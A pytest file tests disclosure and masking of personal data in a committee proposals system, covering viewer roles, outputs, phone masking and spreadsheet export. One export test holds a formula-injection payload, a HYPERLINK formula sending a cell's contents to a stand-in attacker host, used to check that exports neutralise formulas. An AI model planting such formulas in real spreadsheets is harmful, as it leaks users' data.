"""The disclosure policy (``tian.disclosure``), checked on every output for every role.

One disclosed proposal carries personal data and private parts: mobile numbers written four ways and an ID
number in its body, the handler's mobile in the reply, a contact record, an assisting opinion, the lead
proposer's and a co-signer's feedback, and the office's review note. Each viewer — anonymous, people with no
tie to it (a member, a unit, a collective proposer, the administrator) and everyone tied to it — reads every
output: the signed-in page, the portal, the public and private API, Word documents and the print view, search,
the open data, the feed, the Excel export and the notifications. Whatever the policy hides from a viewer must
appear in none of them; what it shows must be there (so that a blank output cannot pass)."""

import datetime
import io
import json
import re
from dataclasses import dataclass
from zoneinfo import ZoneInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from docx import Document as WordDocument
from openpyxl import load_workbook

from tian.disclosure.masking import mask_personal
from tian.handling import services as handling
from tian.handling.models import Reply
from tian.notifications.models import Notification
from tian.proposals import services
from tian.proposals.models import Attachment, Proposal, TopicCategory
from tian.supervision import services as supervision

TZ = ZoneInfo("Asia/Shanghai")

# The lead proposer's own numbers, in the body: +86 with spaces, full-width digits, hyphens, an ID number.
BODY_NUMBERS = {"15811112222": "+86 158 1111 2222", "15833334444": "１５８３３３３４４４４",
                "15855556666": "158-5555-6666", "510802199001011234": "510802199001011234"}
BODY = ("未成年人是祖国的未来,要尽快发展普惠托育服务。\n"
        f"提案人联系方式:{BODY_NUMBERS['15811112222']},{BODY_NUMBERS['15833334444']},"
        f"{BODY_NUMBERS['15855556666']};身份证{BODY_NUMBERS['510802199001011234']}。")
TITLE = "关于发展普惠托育服务的建议"
# The handler's mobile, in the reply's text and on its contact line.
HANDLER_MOBILE, HANDLER_CONTACT = "13987654321", "13698765432"
REPLY_BODY = "感谢您对托育服务的关注。\n如需了解办理进度,请拨打139 8765 4321,或办公电话0839-8622541。"
CONTACT_SUMMARY = "办前沟通的私密记录"
OPINION = "协办单位的会办意见私密内容"
LEAD_FEEDBACK = "领衔委员的私密反馈"
COSIGNER_FEEDBACK = "联名委员的私密反馈,回电13712345678"
COSIGNER_MOBILE = "13712345678"
REVIEW_NOTE = "提案委审查的内部意见"


def at(month, day, hour=10):
    return datetime.datetime(2023, month, day, hour, tzinfo=TZ)


@dataclass
class Story:
    proposal: Proposal
    reply: Reply
    attachment: Attachment


@pytest.fixture
def story(world, django_capture_on_commit_callbacks, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    category = TopicCategory.objects.get(committee=world.committee, name="社会建设")
    with django_capture_on_commit_callbacks(execute=True):  # notifications and the search index after commit
        p = services.proposal_create_draft(by=world.member, committee=world.committee,
                                           lead_member=world.member.member, title=TITLE, body=BODY,
                                           category=category, at=at(2, 14, 9))
        attachment = Attachment.objects.create(
            proposal=p, file=SimpleUploadedFile("调研报告.txt", "附件里的身份证510802199001011234".encode()),
            name="调研报告.txt", size=10, uploaded_by=world.member)
        [invitation] = services.cosign_invite(proposal=p, by=world.member, members=[world.cosigner.member],
                                              at=at(2, 14, 9))
        services.cosign_respond(cosignature=invitation, by=world.cosigner, accept=True, at=at(2, 14, 9))
        p = services.proposal_submit(proposal=Proposal.objects.get(pk=p.pk), by=world.member, at=at(2, 14))
        p = services.proposal_register(proposal=p, by=world.staff, note=REVIEW_NOTE, at=at(3, 1))
        p = handling.proposal_assign(proposal=p, by=world.staff, lead_units=[world.units["区民政局"]],
                                     assisting_units=[world.units["区教科局"]],
                                     assigned_on=datetime.date(2023, 3, 16),
                                     supervising_offices=[world.offices["区政府办公室"]],
                                     lead_officials=[world.lead_official], at=at(3, 16))
        lead, assisting = p.assignments.get(role="lead"), p.assignments.get(role="assisting")
        handling.assignment_sign_for(assignment=lead, by=world.lead_handler, at=at(3, 17))
        handling.assignment_sign_for(assignment=assisting, by=world.assisting_handler, at=at(3, 17))
        handling.opinion_send(assignment=assisting, by=world.assisting_handler, body=OPINION, at=at(4, 1))
        handling.contact_record(assignment=lead, by=world.lead_handler, method="phone",
                                contacted_on=datetime.date(2023, 9, 1), summary=CONTACT_SUMMARY, at=at(9, 1))
        reply = handling.reply_save(assignment=lead, by=world.lead_handler, body=REPLY_BODY, outcome="A",
                                    contact_name="贺威", contact_phone=HANDLER_CONTACT,
                                    reply_date=datetime.date(2023, 10, 11), at=at(10, 11))
        handling.reply_submit(reply=reply, by=world.lead_handler, at=at(10, 11, 11))
        handling.reply_cosign(reply=reply, by=world.assisting_handler, at=at(10, 20))
        supervision.reply_approve(reply=Reply.objects.get(pk=reply.pk), by=world.supervisor, at=at(10, 23))
        p = Proposal.objects.get(pk=p.pk)
        handling.evaluation_submit(proposal=p, by=world.member, result="satisfied", feedback=LEAD_FEEDBACK,
                                   at=at(10, 25))
        handling.evaluation_submit(proposal=Proposal.objects.get(pk=p.pk), by=world.cosigner,
                                   result="basically_satisfied", feedback=COSIGNER_FEEDBACK, at=at(10, 26))
        p = services.proposal_close(proposal=Proposal.objects.get(pk=p.pk), by=world.staff, at=at(10, 30))
        p = services.proposal_disclose(proposal=p, by=world.staff, at=at(11, 2))
    return Story(proposal=Proposal.objects.get(pk=p.pk), reply=Reply.objects.get(pk=reply.pk), attachment=attachment)


# --- reading outputs as text ------------------------------------------------------------------------------

def _html_text(content: bytes) -> str:
    html = content.decode()
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))


def _docx_text(content: bytes) -> str:
    return "\n".join(p.text for p in WordDocument(io.BytesIO(content)).paragraphs)


def _xlsx_text(content: bytes) -> str:
    workbook = load_workbook(io.BytesIO(content))
    return "\n".join(str(cell.value) for sheet in workbook for row in sheet.iter_rows() for cell in row
                     if cell.value is not None)


def _read(client, url, kind="html", **params) -> str:
    response = client.get(url, params)
    if response.status_code in (302, 403, 404):
        return ""
    assert response.status_code == 200, (url, response.status_code)
    if kind == "docx":
        return _docx_text(response.content)
    if kind == "xlsx":
        return _xlsx_text(response.content)
    if kind == "json":
        return json.dumps(response.json(), ensure_ascii=False)
    if kind == "raw":
        content = b"".join(response.streaming_content) if response.streaming else response.content
        return content.decode("utf-8-sig")
    return _html_text(response.content)


def outputs(client, user, story) -> dict[str, str]:
    """Every output that shows the proposal, as this client reads it."""
    p, reply = story.proposal, story.reply
    result = {
        "portal page": _read(client, reverse("portal:detail", args=[p.pk])),
        "portal list": _read(client, reverse("portal:index")),
        "portal search": _read(client, reverse("portal:search"), q="托育"),
        "feed": _read(client, reverse("portal:feed"), "raw"),
        "open data csv": _read(client, reverse("portal:export", args=[p.session_id, "csv"]), "raw"),
        "open data json": _read(client, reverse("portal:export", args=[p.session_id, "json"]), "raw"),
        "public api": _read(client, f"/api/v1/public/proposals/{p.pk}", "json"),
        "public api list": _read(client, "/api/v1/public/proposals", "json", q="托育"),
        "attachment": _read(client, reverse("proposals:attachment", args=[story.attachment.pk]), "raw"),
    }
    if user is not None:
        result.update({
            "proposal page": _read(client, p.get_absolute_url()),
            "api": _read(client, f"/api/v1/proposals/{p.pk}", "json"),
            "api list": _read(client, "/api/v1/proposals", "json"),
            "proposal form docx": _read(client, reverse("documents:proposal_form", args=[p.pk, "docx"]), "docx"),
            "print view": _read(client, reverse("documents:proposal_print", args=[p.pk])),
            "reply letter docx": _read(client, reverse("documents:reply_letter", args=[reply.pk, "docx"]), "docx"),
            "search": _read(client, reverse("search:search"), q="托育"),
            "search list": _read(client, reverse("search:search"), year=str(p.year)),
            "notifications": " ".join(Notification.objects.filter(user=user).values_list("message", flat=True)),
            "notifications api": _read(client, "/api/v1/notifications", "json"),
            "proposals xlsx": _read(client, reverse("proposals:list"), "xlsx", format="xlsx"),
            "statistics list": _read(client, reverse("stats:behind"), year=str(p.year)),
        })
    return result


def _digits(text: str) -> str:
    """Digits and stars only, full-width digits read as digits: a number shows however it was spaced."""
    text = text.translate(str.maketrans("０１２３４５６７８９", "0123456789"))
    return re.sub(r"[^0-9*]", "", text)


def shows(text: str, secret: str) -> bool:
    if secret.isdigit():
        return secret in _digits(text)
    return secret in text


# --- who may see what -------------------------------------------------------------------------------------

NUMBERS_IN_BODY = list(BODY_NUMBERS)
# What each viewer is denied; everything not listed for a viewer must be shown to them somewhere.
ALL_SECRETS = [*NUMBERS_IN_BODY, HANDLER_MOBILE, HANDLER_CONTACT, CONTACT_SUMMARY, OPINION, LEAD_FEEDBACK,
               COSIGNER_FEEDBACK[:8], COSIGNER_MOBILE, REVIEW_NOTE, "附件里的身份证"]
UNTIED = ALL_SECRETS
LEAD_PROPOSER_DENIED = [HANDLER_MOBILE, HANDLER_CONTACT, COSIGNER_MOBILE, OPINION, REVIEW_NOTE]
COSIGNER_DENIED = [HANDLER_MOBILE, HANDLER_CONTACT, LEAD_FEEDBACK, OPINION, REVIEW_NOTE]
INSIDER_DENIED = [OPINION, REVIEW_NOTE]  # opinions are read on the units' work page, not on these outputs
STAFF_DENIED = [OPINION]

VIEWERS = {
    "anonymous": (None, UNTIED),
    "stranger": ("stranger", UNTIED),
    "other unit": ("other_handler", UNTIED),
    "collective proposer": ("collective", UNTIED),
    "administrator": ("admin", UNTIED),
    "lead proposer": ("member", LEAD_PROPOSER_DENIED),
    "co-signer": ("cosigner", COSIGNER_DENIED),
    "office staff": ("staff", STAFF_DENIED),
    "lead unit": ("lead_handler", INSIDER_DENIED),
    "assisting unit": ("assisting_handler", INSIDER_DENIED),
    "supervisor": ("supervisor", INSIDER_DENIED),
    "lead official": ("official", INSIDER_DENIED),
}


@pytest.mark.parametrize("viewer", list(VIEWERS))
def test_every_output_shows_each_viewer_only_what_the_policy_allows(world, story, viewer):
    name, denied = VIEWERS[viewer]
    user = getattr(world, name) if name else None
    client = Client()
    if user is not None:
        client.force_login(user)
    texts = outputs(client, user, story)
    leaks = [(secret, where) for secret in denied for where, text in texts.items() if shows(text, secret)]
    assert leaks == [], f"{viewer} reads what the policy hides: {leaks}"
    everything = "\n".join(texts.values())
    assert TITLE in everything  # the outputs were read
    for secret in ALL_SECRETS:
        if secret not in denied and secret not in (OPINION,):
            assert shows(everything, secret), f"{viewer} should read {secret!r} somewhere"


def test_the_public_reads_the_lead_proposers_rating_only(world, story):
    public = Client().get(f"/api/v1/public/proposals/{story.proposal.pk}").json()
    assert public["lead_rating"] == "satisfied" and public["evaluations"] == [] and public["timeline"] == []
    page = _html_text(Client().get(reverse("portal:detail", args=[story.proposal.pk])).content)
    assert "满意评价 满意" in page and "基本满意" not in page


def test_a_member_with_no_tie_reads_a_disclosed_proposal_as_the_public_does(world, story, client_for):
    client = client_for(world.stranger)
    api = client.get(f"/api/v1/proposals/{story.proposal.pk}").json()
    assert api["evaluations"] == [] and api["timeline"] == [] and api["lead_rating"] == "satisfied"
    assert "158****2222" in api["body"] and "139****4321" in api["replies"][0]["paragraphs"][1]
    assert api["replies"][0]["contact_line"].endswith("136****5432)")
    page = _html_text(client.get(story.proposal.get_absolute_url()).content)
    assert "基本满意" not in page and "办理记录" not in page and "调研报告" not in page


def test_each_proposer_reads_their_own_feedback_and_the_lead_reads_all(world, story, client_for):
    lead = client_for(world.member).get(f"/api/v1/proposals/{story.proposal.pk}").json()
    assert {e["evaluator"] for e in lead["evaluations"]} == {"刘安泽", "徐丽娟"}
    cosigner_feedback = next(e["feedback"] for e in lead["evaluations"] if e["evaluator"] == "徐丽娟")
    assert cosigner_feedback == "联名委员的私密反馈,回电137****5678"  # another's number, masked for the lead
    cosigner = client_for(world.cosigner).get(f"/api/v1/proposals/{story.proposal.pk}").json()
    assert [(e["evaluator"], e["feedback"]) for e in cosigner["evaluations"]] == [("徐丽娟", COSIGNER_FEEDBACK)]
    assert cosigner["lead_rating"] == "satisfied"
    staff = client_for(world.staff).get(f"/api/v1/proposals/{story.proposal.pk}").json()
    assert {e["feedback"] for e in staff["evaluations"]} == {LEAD_FEEDBACK, COSIGNER_FEEDBACK}


def test_attachments_are_read_only_by_those_tied_to_the_proposal(world, story, client_for):
    url = reverse("proposals:attachment", args=[story.attachment.pk])
    assert client_for(world.cosigner).get(url).status_code == 200
    assert client_for(world.lead_handler).get(url).status_code == 200
    for user in (world.stranger, world.other_handler, world.admin):
        assert client_for(user).get(url).status_code == 404
    assert Client().get(url).status_code in (302, 404)


def test_the_office_review_note_is_internal(world, story, client_for):
    assert REVIEW_NOTE in _html_text(client_for(world.staff).get(story.proposal.get_absolute_url()).content)
    member_page = _html_text(client_for(world.member).get(story.proposal.get_absolute_url()).content)
    assert "已立案" in member_page and REVIEW_NOTE not in member_page


# --- replies in progress ----------------------------------------------------------------------------------

DRAFT_TEXT = "尚未发出的答复草稿"


@pytest.fixture
def draft_reply(world, assigned):
    for assignment in assigned.assignments.all():  # signed for by both units: the assisting one co-signs later
        handling.assignment_sign_for(assignment=assignment, by=world.handler_for(assignment.unit.name))
    lead = assigned.assignments.get(role="lead")
    return handling.reply_save(assignment=lead, by=world.lead_handler, body=DRAFT_TEXT, outcome="A",
                               contact_name="贺威", contact_phone="13698765432", reply_date=lead.assigned_on)


def test_a_draft_reply_is_read_by_its_unit_and_the_office_only(world, draft_reply, client_for):
    proposal = draft_reply.proposal
    review = reverse("supervision:review", args=[draft_reply.pk])
    assert client_for(world.supervisor).get(review).status_code == 404
    for user in (world.supervisor, world.official, world.member, world.assisting_handler):
        client = client_for(user)
        page = _html_text(client.get(proposal.get_absolute_url()).content)
        assert client.get(proposal.get_absolute_url()).status_code == 200
        assert DRAFT_TEXT not in page, user
        assert DRAFT_TEXT not in json.dumps(client.get(f"/api/v1/proposals/{proposal.pk}").json(), ensure_ascii=False)
        letter = client.get(reverse("documents:reply_letter", args=[draft_reply.pk, "docx"]))
        assert letter.status_code == 404, user
    for user in (world.lead_handler, world.staff):
        assert DRAFT_TEXT in _html_text(client_for(user).get(proposal.get_absolute_url()).content), user


def test_a_reply_sent_for_review_is_read_by_the_supervising_office(world, draft_reply, client_for):
    handling.reply_submit(reply=draft_reply, by=world.lead_handler)
    reply = Reply.objects.get(pk=draft_reply.pk)
    assert reply.status == Reply.Status.COSIGNING  # the assisting unit is asked to co-sign first
    assert DRAFT_TEXT not in _html_text(client_for(world.supervisor).get(reply.proposal.get_absolute_url()).content)
    assert DRAFT_TEXT in _html_text(client_for(world.assisting_handler).get(
        reply.proposal.get_absolute_url()).content)
    handling.reply_cosign(reply=reply, by=world.assisting_handler)
    reply = Reply.objects.get(pk=draft_reply.pk)
    assert reply.status == Reply.Status.SUPERVISION
    page = client_for(world.supervisor).get(reverse("supervision:review", args=[reply.pk]))
    assert page.status_code == 200 and DRAFT_TEXT in _html_text(page.content)
    assert DRAFT_TEXT not in _html_text(client_for(world.member).get(reply.proposal.get_absolute_url()).content)


# --- masking ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("written, masked", [
    ("13795952836", "137****2836"),
    ("+8613987654321", "+86139****4321"),
    ("+86 137 9595 2836", "+86 137****2836"),
    ("0086 139 1234 5678", "0086 139****5678"),
    ("139 1234 5678", "139****5678"),
    ("139-8765-4321", "139****4321"),
    ("１３９８７６５４３２１", "139****4321"),
    # Spaces around the hyphens and the first three in brackets, as people type them (a review of domain.md).
    ("可拨打137 - 9595 - 2836咨询", "可拨打137****2836咨询"),
    ("(137)9595-2836", "137****2836"),
    ("+86 (137) 9595 2836", "+86 137****2836"),
    ("（137）9595  2836", "137****2836"),
    ("联系人:王先生(13795952836)", "联系人:王先生(137****2836)"),  # a bracket around the whole number stays
    ("联系人:王先生（13795952836）", "联系人:王先生（137****2836）"),
    ("身份证510802199001011234", "身份证510802********1234"),
    ("办公电话0839-8622541", "办公电话0839-8622541"),  # an office line with its area code stays
    ("文号20231234567890", "文号20231234567890"),  # a longer run of digits is no phone number
])
def test_mobiles_are_masked_however_written(written, masked):
    assert mask_personal(written) == masked


def test_fixed_lines_are_masked_where_the_committee_chooses(world, story, client_for):
    page = _html_text(Client().get(reverse("portal:detail", args=[story.proposal.pk])).content)
    assert "0839-8622541" in page  # office phones stay by default
    world.committee.mask_landlines = True
    world.committee.save()
    page = _html_text(Client().get(reverse("portal:detail", args=[story.proposal.pk])).content)
    assert "8622541" not in _digits(page.split("政协广元市朝天区委员会 ·")[0]) and "0839-***2541" in page
    staff_page = _html_text(client_for(world.staff).get(story.proposal.get_absolute_url()).content)
    assert "0839-8622541" in staff_page


def test_masking_is_linear_in_the_length_of_the_text():
    # A pattern that could backtrack would take minutes here; the separators are single characters.
    text = "(联系人:x 联系电话:" + " " * 50_000 + "1" * 20_000 + "-" * 20_000
    assert mask_personal(text) == text


# --- spreadsheets ---------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&B4,"点此查看")'


def test_exports_neutralise_formulas_in_every_cell(world, client_for, story):
    Proposal.objects.filter(pk=story.proposal.pk).update(title=FORMULA)
    workbook = load_workbook(io.BytesIO(client_for(world.staff).get(reverse("proposals:list"),
                                                                    {"format": "xlsx"}).content))
    values = [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value]
    assert "'" + FORMULA in values
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "@")) for v in values)
    assert all(cell.data_type != "f" for sheet in workbook for row in sheet.iter_rows() for cell in row)
    csv_text = Client().get(reverse("portal:export", args=[story.proposal.session_id, "csv"])).content.decode(
        "utf-8-sig")
    assert "'=HYPERLINK" in csv_text and ',"=HYPERLINK' not in csv_text and ",=HYPERLINK" not in csv_text


def test_the_statistics_page_lists_only_the_key_proposals_the_viewer_may_open(world, assigned, client_for):
    """The figures are shared by every viewer of a scope; the list of key proposals is each viewer's own."""
    from tian.accounts import services as account_services
    from tian.accounts.roles import Role

    url = reverse("stats:index") + f"?year={assigned.year}"
    other_office = account_services.user_create(username="区委目标绩效办", full_name="区委目标绩效办", password="x" * 12,
                                                roles=[Role.SUPERVISOR], office=world.offices["区委目标绩效办"],
                                                validate=False)
    assert assigned.title in _html_text(client_for(world.supervisor).get(url).content)  # its supervising office
    assert assigned.title in _html_text(client_for(world.staff).get(url).content)
    for user in (world.admin, other_office):  # the same figures, rendered once, but not the title
        page = _html_text(client_for(user).get(url).content)
        assert "重点提案" in page and assigned.title not in page, user


# --- found by a review: texts others wrote, read by proposers (each failed before the policy was applied) -----

def test_a_search_excerpt_cut_from_a_reply_masks_the_handlers_mobile_for_proposers(world, story, client_for):
    """拨打 is in the released reply alone, so the excerpt is cut from the reply: what others wrote, which a
    proposer reads with personal numbers masked (``others_text``), as on the proposal page; the office in full."""
    for user in (world.member, world.cosigner):
        page = _html_text(client_for(user).get(reverse("search:search"), {"q": "拨打"}).content)
        assert "拨打" in page and HANDLER_MOBILE not in _digits(page) and "139****4321" in page, user
    staff = _html_text(client_for(world.staff).get(reverse("search:search"), {"q": "拨打"}).content)
    assert HANDLER_MOBILE in _digits(staff)


def test_a_follow_up_report_masks_personal_numbers_for_proposers(world, story, client_for):
    from tian.deadlines import services as deadlines
    from tian.deadlines.models import FollowUp

    follow_up = FollowUp.objects.create(reply=story.reply, due_on=datetime.date(2024, 11, 1))
    deadlines.follow_up_report(follow_up=follow_up, by=world.lead_handler, report="已落实,详询经办人13911112222")
    for user in (world.member, world.cosigner):
        page = _html_text(client_for(user).get(story.proposal.get_absolute_url()).content)
        assert "已落实" in page and "13911112222" not in _digits(page) and "139****2222" in page, user
    assert "13911112222" in _digits(_html_text(client_for(world.staff).get(story.proposal.get_absolute_url()).content))


def test_supervisions_comments_and_activity_notes_stay_with_those_working_on_the_proposal(world, draft_reply,
                                                                                         client_for):
    """The proposal page shows supervision reviews and activities to insiders only; the timeline (page and API)
    said their notes to the proposers too."""
    from tian.deadlines import services as deadlines

    handling.reply_submit(reply=draft_reply, by=world.lead_handler)
    handling.reply_cosign(reply=Reply.objects.get(pk=draft_reply.pk), by=world.assisting_handler)
    comments = "督办意见:答复中资金数额不实,请核实后重报"
    supervision.reply_return(reply=Reply.objects.get(pk=draft_reply.pk), by=world.supervisor, comments=comments)
    proposal = draft_reply.proposal
    notes = "视察记录:区长批示内部意见"
    deadlines.supervision_activity_record(proposal=proposal, by=world.official, kind="inspection",
                                          held_on=datetime.date.today(), participants="杨金军", notes=notes)
    page = _html_text(client_for(world.member).get(proposal.get_absolute_url()).content)
    api = json.dumps(client_for(world.member).get(f"/api/v1/proposals/{proposal.pk}").json(), ensure_ascii=False)
    assert comments not in page + api and notes not in page + api
    assert "督办退回答复" in page  # the step itself is shown
    for user in (world.staff, world.lead_handler, world.supervisor):
        assert comments in _html_text(client_for(user).get(proposal.get_absolute_url()).content), user


def test_a_returned_reply_is_the_units_alone_until_it_is_sent_again(world, draft_reply, client_for):
    """A reply returned by supervision is redrafted in place: the supervisor, the lead official and the assisting
    unit read the redraft only once it is sent again."""
    handling.reply_submit(reply=draft_reply, by=world.lead_handler)
    handling.reply_cosign(reply=Reply.objects.get(pk=draft_reply.pk), by=world.assisting_handler)
    supervision.reply_return(reply=Reply.objects.get(pk=draft_reply.pk), by=world.supervisor, comments="重写")
    handling.reply_save(assignment=draft_reply.assignment, by=world.lead_handler, body="未发出的修改稿内容",
                        outcome="A", contact_name="贺威", contact_phone="13698765432",
                        reply_date=draft_reply.assignment.assigned_on)
    proposal = draft_reply.proposal
    for user in (world.supervisor, world.official, world.assisting_handler, world.member):
        assert "未发出的修改稿内容" not in _html_text(client_for(user).get(proposal.get_absolute_url()).content), user
    for user in (world.lead_handler, world.staff):
        assert "未发出的修改稿内容" in _html_text(client_for(user).get(proposal.get_absolute_url()).content), user
    handling.reply_submit(reply=Reply.objects.get(pk=draft_reply.pk), by=world.lead_handler)
    assert "未发出的修改稿内容" in _html_text(
        client_for(world.assisting_handler).get(proposal.get_absolute_url()).content)


def test_a_search_for_a_whole_number_does_not_confirm_a_masked_one(world, django_capture_on_commit_callbacks):
    """The index holds personal numbers masked, as the public reads them: searching 13795952836 must not find
    the proposal that shows 137****2836 (four hidden digits are 10,000 guesses)."""
    category = TopicCategory.objects.get(committee=world.committee, name="社会建设")
    with django_capture_on_commit_callbacks(execute=True):
        p = services.proposal_create_draft(by=world.member, committee=world.committee, lead_member=world.member.member,
                                           title="关于托育服务的建议", body="联系人手机13795952836。", category=category,
                                           disclosure_consent=True)
        services.proposal_submit(proposal=p, by=world.member)
    Proposal.objects.filter(pk=p.pk).update(is_public=True)
    from tian.search.index import index_proposal

    index_proposal(p.pk)
    public = Client()
    assert "137****2836" in _html_text(public.get(reverse("portal:search"), {"q": "托育"}).content)
    assert "137****2836" not in _html_text(public.get(reverse("portal:search"), {"q": "13795952836"}).content)
    # The API's lists match words of the title: a number there is looked for only where the reader reads it in full.
    Proposal.objects.filter(pk=p.pk).update(title="关于托育服务的建议(联系13795952836)")
    assert public.get("/api/v1/public/proposals", {"q": "托育"}).json()["total"] == 1
    assert public.get("/api/v1/public/proposals", {"q": "13795952836"}).json()["total"] == 0
    # nor part of it: the hidden digits (9595) are not found, the shown ones (137, 2836) are
    for part, found in (("1379595", 0), ("9595", 0), ("13795", 0), ("2836", 1), ("137", 1)):
        assert public.get("/api/v1/public/proposals", {"q": part}).json()["total"] == found, part


def test_who_declined_to_co_sign_is_between_them_and_the_lead_proposer(world, client_for):
    """The invitations of a proposal (page and API): the lead proposer (and the office) read every one with its
    state; another invitee reads who agreed and their own, not who declined."""
    from tian.accounts import services as accounts
    from tian.accounts.roles import Role
    from tian.organisations.models import Member

    category = TopicCategory.objects.get(committee=world.committee, name="社会建设")
    p = services.proposal_create_draft(by=world.member, committee=world.committee, lead_member=world.member.member,
                                       title="关于托育服务的建议", body="建议。", category=category)
    third = Member.objects.create(committee=world.committee, name="赵拒签")
    refuser = accounts.user_create(username="zhaojuqian", full_name="赵拒签", password=None, validate=False,
                                   roles=[Role.MEMBER], member=third)
    agreed, declined = services.cosign_invite(proposal=p, by=world.member, members=[world.cosigner.member, third])
    services.cosign_respond(cosignature=agreed, by=world.cosigner, accept=True)
    services.cosign_respond(cosignature=declined, by=refuser, accept=False)

    def listed(user) -> str:
        return json.dumps(client_for(user).get(f"/api/v1/proposals/{p.pk}/invitations").json(), ensure_ascii=False)

    assert "赵拒签" in listed(world.member)  # the office reads every invitation once the draft is submitted
    assert "赵拒签" not in listed(world.cosigner) and world.cosigner.member.name in listed(world.cosigner)
    # nor one by one, by its id
    assert client_for(world.cosigner).get(f"/api/v1/invitations/{declined.pk}").status_code == 404
    assert client_for(world.member).get(f"/api/v1/invitations/{declined.pk}").json()["status"] == "declined"
    assert client_for(refuser).get(f"/api/v1/invitations/{declined.pk}").json()["status"] == "declined"
    assert "赵拒签" not in _html_text(client_for(world.cosigner).get(p.get_absolute_url()).content)  # history too
    assert "赵拒签" not in json.dumps(client_for(world.cosigner).get(f"/api/v1/proposals/{p.pk}").json(),
                                    ensure_ascii=False)
    assert "赵拒签" in _html_text(client_for(world.member).get(p.get_absolute_url()).content)


def test_an_ended_invitation_no_longer_tells_the_drafts_title(world, client_for):
    category = TopicCategory.objects.get(committee=world.committee, name="社会建设")
    p = services.proposal_create_draft(by=world.member, committee=world.committee, lead_member=world.member.member,
                                       title="关于甲的建议", body="建议。", category=category)
    [invitation] = services.cosign_invite(proposal=p, by=world.member, members=[world.cosigner.member])
    assert client_for(world.cosigner).get(f"/api/v1/invitations/{invitation.pk}").json()["proposal_title"] == "关于甲的建议"
    services.cosign_withdraw_invitation(cosignature=invitation, by=world.member)
    services.proposal_update_draft(proposal=Proposal.objects.get(pk=p.pk), by=world.member,
                                   title="关于新标题的建议", body="建议。", category=category)
    answer = client_for(world.cosigner).get(f"/api/v1/invitations/{invitation.pk}").json()
    assert answer["status"] == "withdrawn" and "新标题" not in json.dumps(answer, ensure_ascii=False)


def test_the_audit_log_and_the_deliveries_tell_nothing_of_a_draft_its_readers_may_not_open(
        world, client_for, django_capture_on_commit_callbacks):
    """A member's draft is theirs alone (the office reads it once submitted): searching the audit log by words of
    its title finds nothing, its download is told without the file's name (which is the title), and the deliveries
    page gives the invitation's state without its message."""
    category = TopicCategory.objects.get(committee=world.committee, name="社会建设")
    with django_capture_on_commit_callbacks(execute=True):
        p = services.proposal_create_draft(by=world.member, committee=world.committee, lead_member=world.member.member,
                                           title="关于撤销某某局长职务的建议", body="建议。", category=category)
        services.cosign_invite(proposal=p, by=world.member, members=[world.cosigner.member])
    assert client_for(world.member).get(reverse("documents:proposal_form", args=[p.pk, "docx"])).status_code == 200
    for user in (world.staff, world.admin):
        reader = client_for(user)
        assert reader.get(p.get_absolute_url()).status_code == 404
        log = _html_text(reader.get(reverse("audit:search")).content)
        assert "某某局长" not in log and "下载了一个文件" in log, user
        searched = reader.get(reverse("audit:search"), {"proposal": "某某局长"})
        assert not searched.context["page"].object_list, user
        if user == world.admin:
            deliveries = _html_text(reader.get(reverse("notifications:deliveries")).content)
            assert "某某局长" not in deliveries and "涉及您无权查看的提案" in deliveries
    # Once submitted, the office reads it all.
    services.proposal_submit(proposal=Proposal.objects.get(pk=p.pk), by=world.member)
    staff = client_for(world.staff)
    assert "某某局长" in _html_text(staff.get(reverse("audit:search")).content)
    assert staff.get(reverse("audit:search"), {"proposal": "某某局长"}).context["page"].object_list
